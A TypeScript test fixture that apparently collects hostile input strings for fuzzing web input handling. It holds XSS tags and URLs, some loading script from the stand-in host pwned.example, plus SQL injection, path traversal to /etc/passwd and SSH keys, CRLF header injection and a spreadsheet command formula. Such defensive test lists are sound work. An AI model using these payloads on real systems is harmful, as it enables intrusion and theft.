/** Texts that were written to do harm or to break things: tags, addresses, templates, queries, paths, odd letters. */

const RUN = "window.__pwned=1";

const tags = [
  `<script>${RUN}</script>`, `<script src=//pwned.example/x.js></script>`, `</script><script>${RUN}</script>`, `<ScRiPt>${RUN}</sCrIpT>`, `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src=x onerror=${RUN}>`, `<img src=x onerror="${RUN}"//`, `<img/src=x/onerror=${RUN}>`, `<svg onload=${RUN}>`, `<svg/onload=${RUN}//`, `<svg><script>${RUN}</script></svg>`, `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`, `<math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`, `<iframe src="javascript:${RUN}"></iframe>`, `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
  `<object data="javascript:${RUN}">`, `<embed src="javascript:${RUN}">`, `<body onload=${RUN}>`, `<details open ontoggle=${RUN}>x</details>`, `<video><source onerror=${RUN}></video>`, `<audio src=x onerror=${RUN}>`, `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`, `<textarea autofocus onfocus=${RUN}>`, `<marquee onstart=${RUN}>`, `<base href="//pwned.example/">`, `<link rel=stylesheet href=//pwned.example/x.css>`, `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<form action="javascript:${RUN}"><button>x</button></form>`, `<a href="javascript:${RUN}" autofocus>x</a>`, `<template><script>${RUN}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`, `<style>@import '//pwned.example/x.css';</style>`,
  `<div style="background:url(//pwned.example/x)">`, `<isindex type=image src=1 onerror=${RUN}>`, `<x onpointerrawupdate=${RUN}>`, `<dialog open onclose=${RUN}>`, `<table background="javascript:${RUN}">`, `<!--><img src=x onerror=${RUN}>-->`, `<![CDATA[<script>${RUN}</script>]]>`,
  `<?xml version="1.0"?><script>${RUN}</script>`, `<plaintext>`, `<xmp><script>${RUN}</script>`, `</textarea><script>${RUN}</script>`, `</title><script>${RUN}</script>`, `</style><script>${RUN}</script>`, `</option></select><script>${RUN}</script>`, `<portal src=//pwned.example>`,
];

const attributes = [
  `" onmouseover="${RUN}" x="`, `' onfocus='${RUN}' autofocus='`, `"><script>${RUN}</script>`, `'><script>${RUN}</script>`, `\` onerror=${RUN} \``, `" autofocus onfocus="${RUN}`, `x" style="animation-name:x" onanimationstart="${RUN}`, `&quot; onload=&quot;${RUN}`, `&#34;&#62;<b>`, `%22%3E%3Cscript%3E${RUN}%3C/script%3E`,
];

const addresses = [
  `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, `java\tscript:${RUN}`, `java\nscript:${RUN}`, ` javascript:${RUN}`, `\u0001javascript:${RUN}`, `data:text/html,<script>parent.__pwned=1</script>`, `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+`,
  `vbscript:msgbox(1)`, `//pwned.example/x`, `\\\\pwned.example\\x`, `http://pwned.example@127.0.0.1/`, `&#106;avascript:${RUN}`, `javascript&colon;${RUN}`, `blob:null/x`, `file:///etc/passwd`, `view-source:javascript:${RUN}`,
];

const markdown = [
  `[x](javascript:${RUN})`, `[x](JaVaScRiPt:${RUN})`, `[x](java&#115;cript:${RUN})`, `[x](<javascript:${RUN}>)`, `[x](data:text/html;base64,PHNjcmlwdD4=)`, `![x](x" onerror="${RUN})`, `![x](javascript:${RUN})`, `[x]( "onmouseover=${RUN}")`, `[x](//pwned.example "t\\" onclick=\\"${RUN}")`,
  `<javascript:${RUN}>`, `[a]: javascript:${RUN}\n\n[a]`, `\`\`\`html" onload="${RUN}\n<script>${RUN}</script>\n\`\`\``, `~~~"><script>${RUN}</script>\nx\n~~~`, `|a|\n|-|\n|<img src=x onerror=${RUN}>|`, `# <img src=x onerror=${RUN}>`, `> <script>${RUN}</script>`, `- [ ] <svg onload=${RUN}>`,
  `**<b onmouseover=${RUN}>x**`, `\\<script>${RUN}</script>`, `&lt;script&gt;${RUN}&lt;/script&gt;`, `[x](vbscript:x) [y](file:///etc/passwd)`, `![x](http://pwned.example/pixel.png)`, `<a name="x" href='javascript:${RUN}'>x</a>`, `[${"[".repeat(200)}x](y)`, `${"*".repeat(500)}x`, `${">".repeat(300)} x`,
];

const templates = [
  `{{constructor.constructor('${RUN}')()}}`, `{{givenName}}`, `{{7*7}}`, `\${${RUN}}`, `#{7*7}`, `<%= 7*7 %>`, `{%raw%}`, `$t(shell:signOut)`, `$t(auth:signIn.title, {"x":1})`, `{{- name}}`, `__proto__`, `constructor`, `toString`, `%s %d %n`, `$&$1$\``, `{0}`, `\\u003cscript\\u003e`, `]]>`, `--><script>${RUN}</script>`,
  `window.__remixContext.streamController.enqueue("x")`, `</script><!--`, `\u2028\u2029${RUN}`,
];

const queries = [`'; DROP TABLE person; --`, `' OR '1'='1`, `1; SELECT pg_sleep(5)--`, `\\'; SELECT 1`, `") OR ("1"="1`, `%' OR '%'='`, `_%_%`, `'||(SELECT version())||'`, `$1`, `{1,2}`, `{"a":1}`, `E'\\\\000'`, `$$x$$`, `/*x*/`, `::text`, `NULL`, `ARRAY[1]`];

const places = [`../../../../etc/passwd`, `..\\..\\windows\\win.ini`, `%2e%2e%2f%2e%2e%2fetc%2fpasswd`, `/etc/passwd%00.png`, `....//....//etc/passwd`, `file.svg`, `.htaccess`, `CON`, `~/.ssh/id_rsa`];

const breaks = [`x\r\nSet-Cookie: planted=1`, `x\r\n\r\n<script>${RUN}</script>`, `x\nLocation: //pwned.example`, `%0d%0aSet-Cookie:planted=1`, `\u560d\u560aSet-Cookie: planted=1`, `a@b.example\r\nBcc: c@d.example`];

const letters = [
  `\u202Egnp.exe\u202C`, `\u2066\u2067abc\u2069`, `\u200B\u200C\u200D\uFEFF`, `e\u0301`.repeat(20), `Z\u0334\u0321\u0322\u0340\u0341\u0358\u0331\u0332`.repeat(10), `\u{1F468}\u200D\u{1F469}\u200D\u{1F467}\u200D\u{1F466}`.repeat(5), `مرحبا بالعالم`, `שלום`, `\uFF1Cscript\uFF1E${RUN}\uFF1C/script\uFF1E`, `\u0130\u0131`, `ﷺ`.repeat(10),
  `\uD800`, `a\uDFFFb`, `\u0000`, `a\u0000b`, `\u0007\u0008\u001b[31mred`, `\u{10FFFF}`, `\uFFFE\uFFFF`, `-`, `.`, ` `, `\t`, `0`, `-0`, `1e309`, `NaN`, `Infinity`, `true`, `null`, `undefined`, `[object Object]`, `=1+1`, `=cmd|' /C calc'!A0`, `+1`, `@SUM(A1)`,
];

/** Everything at once: no list of cases for one place. */
export const hostileTexts: readonly string[] = [...tags, ...attributes, ...addresses, ...markdown, ...templates, ...queries, ...places, ...breaks, ...letters];

/** What only length does. */
export const hugeTexts: readonly string[] = ["x".repeat(100_000), "<b>".repeat(20_000), "\u{1F600}".repeat(30_000), "a ".repeat(50_000), "&".repeat(60_000)];

/** The same in disguises, for the deep run: thousands. */
export function disguised(texts: readonly string[]): string[] {
  const ways: ((text: string) => string)[] = [
    (text) => text,
    (text) => text.toUpperCase(),
    (text) => `x ${text} y`,
    (text) => `"${text}`,
    (text) => `'>${text}`,
    (text) => `]](${text})`,
    (text) => text.replaceAll("<", "<\u200b"),
    (text) => text.replaceAll("<", "&lt;").replaceAll("&lt;", "<"),
    (text) => encodeURIComponent(text.replace(/[\ud800-\udfff]/g, "")),
    (text) => `**${text}**\n\n> ${text}\n\n- ${text}`,
    (text) => text.replaceAll(" ", "/"),
    (text) => text.replaceAll(" ", "\f"),
    (text) => `<!-- ${text} -->`,
    (text) => `\`${text}\``,
    (text) => `[${text}](${text})`,
  ];
  return ways.flatMap((way) => texts.map(way));
}
